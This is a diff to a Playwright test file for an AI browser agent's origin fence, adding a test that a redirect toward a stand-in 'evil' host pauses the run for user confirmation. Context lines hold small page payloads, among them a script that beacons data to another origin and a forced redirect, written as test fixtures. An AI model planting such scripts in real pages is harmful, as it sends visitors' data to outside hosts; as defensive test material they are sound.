@@ -1,6 +1,8 @@
 /** The browser's net alone: with rules for a tab, no navigation, form, redirect, refresh or ping reaches another origin. */
 import { expect, test } from '@playwright/test';
+import type { Run } from '../../lib/records/run';
 import { AttackBench } from '../harness/attack-bench';
+import { until } from '../harness/chat-driver';
 import { html } from '../harness/site';
 
 /** Ways of a page to reach another origin; `to` is its address there. No guard looks at any of them. */
@@ -18,6 +20,41 @@ const WAYS: Readonly<Record<string, (to: string) => string>> = {
     `<script>location.href='/redirect?to=${encodeURIComponent(to)}'</script>`,
   'sends a beacon': (to) => `<script>navigator.sendBeacon('${to}','4711')</script>`,
 };
+
+test('a redirect to another site becomes a question; no keeps the tab here, yes visits it', async () => {
+  const bench = await AttackBench.start();
+  const { site, browser, page, model, evil } = bench;
+  try {
+    site.routes['/out'] = () => html('Out', '<h1>Far away</h1>');
+    site.routes['/hop'] = () => ({ status: 302, headers: { location: `${evil}/out` }, body: '' });
+    site.routes['/desk'] = () => html('Desk', '<a href="/hop">Show more</a>');
+    model.brain = ({ nodes, calls }) => {
+      const ref = nodes.find(({ name }) => name === 'Show more')?.ref;
+      return calls.length === 0 ? { tool: 'click', arguments: { ref } } : { tool: 'done', arguments: { summary: 'x' } };
+    };
+    for (const [answer, count] of [
+      ['no', 0],
+      ['yes', 1],
+    ] as const) {
+      await page.goto(site.url('/desk'));
+      const tabId = await browser.tabIdOf(page);
+      const started = await browser.send<{ run: string }>('run.start', { tabId, request: `look around ${answer}` });
+      const own = async () => (await browser.rows<Run>('runs')).find((one) => one.id === started.result.run);
+      const asking = await until('it asks', async () => {
+        const run = await own();
+        return run?.question || run?.phase === 'ended' ? run : undefined;
+      });
+      expect(asking.question).toMatchObject({ type: 'confirm', code: 'leaves-origin', to: `${evil}/out` });
+      expect(site.count('/out')).toBe(0);
+      expect(page.url()).toBe(site.url('/desk'));
+      await browser.send('run.answer', { run: asking.id, question: asking.question?.id, answer: { type: answer } });
+      await until('it ends', async () => (await own())?.phase === 'ended');
+      expect(site.count('/out')).toBe(count);
+    }
+  } finally {
+    await bench.close();
+  }
+});
 
 test(`${Object.keys(WAYS).length} ways out of a fenced tab reach no other origin, and all do without the fence`, async () => {
   test.setTimeout(5 * 60_000);
